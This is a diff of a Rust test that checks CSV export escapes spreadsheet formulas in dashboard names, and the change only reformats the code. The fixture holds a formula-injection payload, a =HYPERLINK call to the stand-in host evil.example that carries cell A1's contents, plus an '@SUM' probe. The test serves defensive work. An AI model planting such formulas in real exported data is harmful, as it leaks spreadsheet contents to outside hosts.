@@ -23,13 +23,10 @@ fn a_formula_in_a_dashboard_name_is_text_in_the_csv() {
     )
     .unwrap();
     let evil = r#"=HYPERLINK("http://evil.example/?x="&A1,"Revenue")"#;
-    site["dashboards"]
-        .as_array_mut()
-        .unwrap()
-        .extend([
-            serde_json::json!({"id": "9999", "name": evil}),
-            serde_json::json!({"id": "9998", "name": "@SUM(1+1)"}),
-        ]);
+    site["dashboards"].as_array_mut().unwrap().extend([
+        serde_json::json!({"id": "9999", "name": evil}),
+        serde_json::json!({"id": "9998", "name": "@SUM(1+1)"}),
+    ]);
     let dir = tempfile::tempdir().unwrap();
     let snapshot = dir.path().join("site.json");
     std::fs::write(&snapshot, site.to_string()).unwrap();
